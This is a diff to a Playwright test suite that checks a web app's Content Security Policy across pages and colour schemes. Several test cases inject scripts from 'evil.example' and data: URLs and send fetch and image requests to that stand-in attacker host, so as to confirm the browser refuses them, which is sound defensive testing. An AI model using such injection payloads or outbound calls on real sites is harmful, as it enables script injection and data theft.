@@ -5,6 +5,7 @@ import re
 from collections.abc import Iterator
 from contextlib import closing
 from email.message import Message
+from typing import Literal
 from urllib.parse import urlsplit
 
 import pytest
@@ -17,6 +18,7 @@ from tests.browser.harness import frame_of, map_frame, settle_map
 REPORT = """addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
   console.error(`refused: ${effectiveDirective} ${blockedURI}`))"""
 PAGES = ("", "?embed=true&place=china", "corridor", "timeline", "coverage", "own", "?lang=kk")
+LOOKS = [("light", path) for path in PAGES] + [("dark", path) for path in ("", "corridor")]
 
 
 def ask(address: str, method: str, path: str, body: bytes = b"") -> tuple[int, bytes, Message]:
@@ -27,10 +29,10 @@ def ask(address: str, method: str, path: str, body: bytes = b"") -> tuple[int, b
         return answer.status, answer.read(), answer.headers
 
 
-@pytest.fixture(params=["light", "dark"])
-def watched(browser: Browser, request: pytest.FixtureRequest) -> Iterator[BrowserContext]:
+@pytest.fixture
+def watched(browser: Browser, scheme: Literal["light", "dark"]) -> Iterator[BrowserContext]:
     """A browser that says what its policy refuses."""
-    context = browser.new_context(color_scheme=request.param, viewport={"width": 1400, "height": 900})
+    context = browser.new_context(color_scheme=scheme, viewport={"width": 1400, "height": 900})
     context.add_init_script(REPORT)
     yield context
     context.close()
@@ -43,10 +45,10 @@ def refusals(page: Page) -> list[str]:
     return told
 
 
-@pytest.mark.parametrize("path", PAGES)
+@pytest.mark.parametrize(("scheme", "path"), LOOKS)
 def test_page_needs_nothing_that_its_policy_refuses(watched: BrowserContext, address: str, path: str) -> None:
     """Text, map, charts and print, in light and dark; a second time with what the browser has kept."""
-    for _ in range(2):
+    for is_second in (False, True):
         page = watched.new_page()
         told = refusals(page)
         page.goto(f"{address}/{path}")
@@ -58,7 +60,8 @@ def test_page_needs_nothing_that_its_policy_refuses(watched: BrowserContext, add
             charts = page.locator(".charts li.row")
             charts.last.scroll_into_view_if_needed()
             charts.last.hover()
-        page.pdf()
+        if is_second:
+            page.pdf()
         page.close()
 
         assert told == []
@@ -68,45 +71,43 @@ def add_script(source: str) -> str:
     return f"document.head.append(Object.assign(document.createElement('script'), {source}))"
 
 
-@pytest.mark.parametrize(
-    ("where", "source"),
-    [
-        ("page", "{ src: 'https://evil.example/a.js' }"),
-        ("page", "{ src: 'data:text/javascript,window.pwned=1' }"),
-        ("page", "{ textContent: 'window.pwned = 1' }"),
-        ("map", "{ src: 'https://evil.example/a.js' }"),
-        ("map", "{ src: 'data:text/javascript,window.pwned=1' }"),
-    ],
-)
-def test_script_that_is_not_from_here_does_not_run(
-    browser: Browser, address: str, where: str, source: str
-) -> None:
+SCRIPTS = {
+    "page": (
+        "{ src: 'https://evil.example/a.js' }",
+        "{ src: 'data:text/javascript,window.pwned=1' }",
+        "{ textContent: 'window.pwned = 1' }",
+    ),
+    "map": ("{ src: 'https://evil.example/a.js' }", "{ src: 'data:text/javascript,window.pwned=1' }"),
+}
+
+
+@pytest.mark.parametrize("where", SCRIPTS)
+def test_script_that_is_not_from_here_does_not_run(browser: Browser, address: str, where: str) -> None:
     """If text should ever become HTML after all, it can bring no script with it."""
     page = browser.new_page()
     page.add_init_script(REPORT)
-    told = refusals(page)
     page.goto(address)
     map_frame(page).locator(".leaflet-container[data-ready]").wait_for(state="attached")
     frame = frame_of(page) if where == "map" else page.main_frame
-    with page.expect_console_message(lambda message: message.text.startswith("refused: script-src-elem")):
-        frame.evaluate(add_script(source))
+    for source in SCRIPTS[where]:
+        with page.expect_console_message(lambda message: message.text.startswith("refused: script-src-elem")):
+            frame.evaluate(add_script(source))
 
-    assert told
-    assert not frame.evaluate("'pwned' in window")
+        assert not frame.evaluate("'pwned' in window")
     page.close()
 
 
-@pytest.mark.parametrize("asked", ["fetch(address).catch(() => {})", "new Image().src = address"])
-def test_page_sends_nothing_to_another_host(browser: Browser, address: str, asked: str) -> None:
+def test_page_sends_nothing_to_another_host(browser: Browser, address: str) -> None:
     page = browser.new_page()
     page.add_init_script(REPORT)
     page.goto(address)
     page.locator("[data-passage]").first.wait_for()
-    with page.expect_console_message(lambda message: message.text.startswith("refused: ")) as told:
-        page.evaluate(f"(address) => void ({asked})", "https://evil.example/")
-    page.close()
+    for asked in ("fetch(address).catch(() => {})", "new Image().src = address"):
+        with page.expect_console_message(lambda message: message.text.startswith("refused: ")) as told:
+            page.evaluate(f"(address) => void ({asked})", "https://evil.example/")
 
-    assert told.value.text.endswith("https://evil.example/")
+        assert told.value.text.endswith("https://evil.example/")
+    page.close()
 
 
 @pytest.mark.parametrize("method", ["PUT", "POST", "DELETE"])
